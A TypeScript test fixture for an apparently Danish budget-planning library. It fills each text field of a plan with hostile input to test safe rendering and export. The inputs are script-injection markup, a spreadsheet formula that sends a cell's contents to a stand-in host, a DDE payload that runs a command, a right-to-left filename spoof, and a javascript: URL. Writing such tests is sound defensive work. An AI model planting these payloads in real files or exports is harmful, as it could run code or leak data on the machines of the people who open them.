import type { Plan } from "@aarsvaerk/core";

/** What somebody could write into a plan to harm those who open it; everything of it is nothing but text. */
export const malice = {
  markup: `<img src=x onerror="top.document.title='harmed'"><script>document.title='harmed'</script>`,
  formula: `=HYPERLINK("https://harm.example/?"&A1,"Tryk her")`,
  command: "+cmd|' /C calc'!A0",
  lookup: `@SUM(1+1)`,
  apostrophe: `'=1+1`,
  tab: "\t=1+1",
  turned: "Kolonne \u202Egnp.exe\u202C slut",
  long: "Årsværk uden ende ".repeat(556).slice(0, 10_000),
} as const;

/** A plan that is right in every figure and wicked in every text. */
export const hostilePlan: Plan = {
  schemaVersion: 1,
  title: malice.markup,
  authority: malice.formula,
  caseNumber: malice.command,
  language: "da",
  currency: "DKK",
  priceLevel: 2012,
  years: { first: 2012, count: 4 },
  sources: [
    { id: "kilde", title: malice.markup, publisher: malice.formula, url: "javascript:alert(1)" },
  ],
  units: [
    { id: "enhed-1", label: malice.formula },
    { id: "enhed-2", label: malice.long },
  ],
  rates: [
    {
      id: "pris",
      label: malice.apostrophe,
      amount: "500000",
      source: "kilde",
      page: malice.markup,
    },
  ],
  baseline: {
    staffing: [{ id: "basis", role: malice.command, fte: "25", rate: "pris", unit: "enhed-1" }],
  },
  proposals: [
    {
      id: "forslag-1",
      kind: "request",
      title: malice.turned,
      sections: [{ heading: malice.markup, text: malice.long }],
      staffing: [
        {
          id: "linje-1",
          role: malice.formula,
          label: malice.lookup,
          fte: "10",
          rate: "pris",
          unit: "enhed-2",
          assumption: malice.markup,
          accounts: { constructor: malice.formula, toString: malice.tab },
        },
      ],
    },
    { id: "forslag-2", kind: "saving", title: malice.long },
  ],
  scenarios: [{ id: "alt", label: malice.formula, adopts: ["forslag-1"] }],
};
